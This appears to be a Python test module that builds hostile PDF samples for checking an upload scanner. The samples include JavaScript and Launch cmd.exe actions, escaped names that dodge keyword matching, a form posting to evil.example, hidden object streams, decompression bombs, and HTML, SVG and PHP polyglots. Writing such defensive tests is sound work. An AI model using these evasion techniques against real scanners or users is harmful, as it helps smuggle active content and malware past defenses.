"""PDF files that do something, hide something, or never end."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from pypdf.actions import JavaScript

from tests.registry.uploads import good
from tests.registry.uploads.good import CATALOG, PAGE, PAGES, flate, pdf_of, stream
from tests.registry.uploads.hostile_kinds import Case, java_archive

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIONS = {
    "javascript": SCRIPT,
    "javascript-without-spaces": b"<</S/JavaScript/JS(app.alert)>>",
    "javascript-one-letter-escaped": b"<< /S /J#61vaScript /JS (x) >>",
    "javascript-all-letters-escaped": b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /JS (x) >>",
    "javascript-escaped-in-small-letters": b"<< /S /#4aava#53cript /JS (x) >>",
    "javascript-in-name-tree": b"<< /Names << /JavaScript 5 0 R >> >>",
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "launch-escaped": b"<< /S /L#61unch /F (cmd.exe) >>",
    "embedded-files": b"<< /Names << /EmbeddedFiles 5 0 R >> >>",
    "embedded-file-by-its-reference": b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
    "embedded-file-referred-to": b"<< /Type /Filespec /F (a.exe) /EF 12 0 R >>",
    "file-attachment": b"<< /Subtype /FileAttachment /FS 4 0 R >>",
    "rich-media": b"<< /Subtype /RichMedia >>",
    "embedded-go-to": b"<< /S /GoToE /T << /R /C >> >>",
    "form-that-sends": b"<< /S /SubmitForm /F (https://evil.example) >>",
    "form-that-reads": b"<< /S /ImportData /F (a.fdf) >>",
    "xfa": b"<< /AcroForm << /XFA [(template) 5 0 R] >> >>",
    "xfa-referred-to": b"<< /AcroForm << /XFA 5 0 R >> >>",
}


def pdfs() -> Iterator[Case]:
    yield from _active()
    yield from _hidden()
    yield from _locked()
    yield from _broken()
    yield from _bombs()
    yield from _two_kinds()


def _active() -> Iterator[Case]:
    for name, action in ACTIONS.items():
        yield (
            f"pdf-{name}",
            pdf_of(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE, action),
            "active",
        )
    writer = good.pdf_writer()
    writer.add_open_action(JavaScript("app.alert(1);"))
    yield "pdf-javascript-by-pypdf", good.pdf_from(writer), "active"
    writer = good.pdf_writer()
    writer.add_attachment("a.exe", b"MZ")
    yield "pdf-attachment-by-pypdf", good.pdf_from(writer), "active"
    real = good.pdf()
    yield "pdf-attachment-added-later", real + b"9 0 obj\n<< /EF << /F 8 0 R >> >>\nendobj\n" + _end(real), "active"


def _hidden() -> Iterator[Case]:
    """The same action where only a reader of PDF finds it."""
    objects = b"5 0 " + SCRIPT
    dictionary = b"/Type /ObjStm /N 1 /First 4"
    base = (CATALOG, PAGES, PAGE)
    yield "pdf-script-in-object-stream", pdf_of(*base, flate(objects, dictionary)), "active"
    yield (
        "pdf-script-escaped-in-object-stream",
        pdf_of(*base, flate(b"5 0 << /S /J#61vaScript >>", dictionary)),
        "active",
    )
    yield "pdf-script-in-plain-stream", pdf_of(*base, stream(objects, dictionary)), "active"
    yield "pdf-script-in-nameless-stream", pdf_of(*base, flate(objects, b"/N 1 /First 4")), "active"
    yield (
        "pdf-script-in-filter-with-escapes",
        (pdf_of(*base, stream(zlib.compress(objects), b"/Filter /Fl#61teDecode " + dictionary))),
        "active",
    )
    yield (
        "pdf-script-in-picture-that-is-objects",
        (pdf_of(*base, flate(objects, b"/Subtype /Image " + dictionary))),
        "active",
    )
    for place in (999_990, 999_995, 1_000_000):
        padded = b"%".ljust(place, b" ") + objects
        yield f"pdf-script-across-pieces-{place}", pdf_of(*base, flate(padded, dictionary)), "active"
    lying = (
        b"<< /Length 3 /Filter /FlateDecode " + dictionary + b" >>\nstream\n" + zlib.compress(objects) + b"\nendstream"
    )
    yield "pdf-script-behind-a-lying-length", pdf_of(*base, lying), "active"
    early = b"<< /Length 99 >>\nstream\nendstream " + SCRIPT + b"\nendstream"
    yield "pdf-script-behind-a-false-end", pdf_of(*base, early), "active"
    for other in (b"ASCIIHexDecode", b"A85", b"LZWDecode", b"#4cZW", b"Crypt"):
        packed = stream(objects.hex().encode() + b">", b"/Filter [/%b /FlateDecode] " % other + dictionary)
        yield f"pdf-objects-packed-with-{other.decode()}", pdf_of(*base, packed), "too_complex"


def _locked() -> Iterator[Case]:
    for algorithm in ("RC4-128", "AES-256"):
        writer = good.pdf_writer()
        writer.encrypt("", "owner", algorithm=algorithm)
        yield f"pdf-locked-{algorithm}", good.pdf_from(writer), "encrypted"
    yield "pdf-locked-escaped", pdf_of(CATALOG, PAGES, PAGE, trailer=b"/Encr#79pt 4 0 R"), "encrypted"
    yield "pdf-locked-without-key", pdf_of(CATALOG, PAGES, PAGE, trailer=b"/Encrypt<</Filter/Standard>>"), "encrypted"


def _broken() -> Iterator[Case]:
    real = good.pdf()
    for part in (1, 10, 25, 50, 75, 90, 99):
        yield f"pdf-cut-off-at-{part}%", real[: len(real) * part // 100], "broken"
    for size in (5, 6, 8, 9, 20):
        yield f"pdf-cut-off-at-{size}-bytes", real[:size], "broken"
    yield "pdf-without-its-end", real.rstrip().removesuffix(b"%%EOF"), "broken"
    yield "pdf-of-another-version", real.replace(b"%PDF-1", b"%PDF-9", 1), "broken"
    yield "pdf-table-beyond-the-end", good.pdf_of(CATALOG).replace(b"startxref\n", b"startxref\n9999"), "broken"
    yield "pdf-table-that-is-none", good.pdf_of(CATALOG).replace(b"startxref\n", b"startxref\n1"), "broken"
    yield "pdf-with-text-behind", real + b"<script>alert(1)</script>", "broken"
    yield "pdf-with-megabytes-behind", real + bytes(3_000_000), "broken"
    yield "pdf-header-only-before-a-page", b"%PDF-1.7 <html><body onload=alert(1)>", "broken"


def _bombs() -> Iterator[Case]:
    base = (CATALOG, PAGES, PAGE)
    yield "pdf-that-unpacks-to-300-megabytes", _endless, "bomb"
    many = [stream(zlib.compress(bytes(1_000_000), 9), b"/Filter /FlateDecode")] * 300
    yield "pdf-with-300-times-a-megabyte", pdf_of(*base, *many), "bomb"
    yield "pdf-with-25000-streams", lambda: pdf_of(*base, *[stream(b"")] * 25_000), "too_complex"
    yield "pdf-of-streams-that-overlap", _overlapping, "bomb"
    yield "pdf-of-opening-brackets", lambda: pdf_of(*base, b"[" * 2_000_000), ""
    yield "pdf-of-escapes", lambda: pdf_of(*base, b"/" + b"#41" * 2_000_000), ""
    yield "pdf-of-slashes", lambda: pdf_of(*base, b"/" * 9_900_000), ""
    yield "pdf-of-half-names", lambda: pdf_of(*base, b"/EmbeddedFilex" * 700_000), ""
    yield "pdf-of-streams-without-objects", lambda: pdf_of(*base, b"stream\nendstream" * 19_000 + b" " * 9_000_000), ""
    yield "pdf-of-streams-after-a-desert", lambda: pdf_of(*base, b" " * 9_000_000 + b"stream\nendstream" * 19_000), ""
    yield "pdf-of-names", lambda: pdf_of(*base, b"/Java#53crip" * 500_000), ""
    yield "pdf-of-addresses", lambda: pdf_of(*base, b"(http://" * 1_000_000), ""


def _endless() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10_000_000)) for _ in range(30)) + packer.flush()
    return pdf_of(CATALOG, PAGES, PAGE, stream(packed, b"/Filter /FlateDecode"))


def _overlapping() -> bytes:
    """Each stream holds the start of all later ones: read to the end each, they would cost the square."""
    start = b"endstream obj\nstream\n\x78\x9c"
    block = b"\0" + struct.pack("<HH", len(start), 0xFFFF - len(start)) + start
    return pdf_of(CATALOG, PAGES, PAGE, stream(b"\x78\x9c" + block * 15_000))


def _two_kinds() -> Iterator[Case]:
    real = good.pdf_of(CATALOG, PAGES, PAGE)
    archive = java_archive()
    yield "pdf-and-archive", real + archive, "broken"
    yield "pdf-and-archive-with-an-end-of-pdf", real + archive + _end(real), "two_kinds"
    inside = pdf_of(CATALOG, PAGES, PAGE, stream(archive))
    yield "pdf-with-an-archive-inside", inside, "two_kinds"
    for name, markup in {
        "html": b"%<html><script>alert(1)</script>\n",
        "html-in-capitals": b"%<HTML>\n",
        "doctype": b"%<!DOCTYPE html>\n",
        "svg": b"%<svg onload=alert(1)>\n",
        "php": b"%<?php system(1);\n",
    }.items():
        yield f"pdf-and-{name}", pdf_of(CATALOG, PAGES, PAGE, header=b"%PDF-1.7\n" + markup), "two_kinds"


def _end(real: bytes) -> bytes:
    start = real.rindex(b"startxref")
    return real[start:]
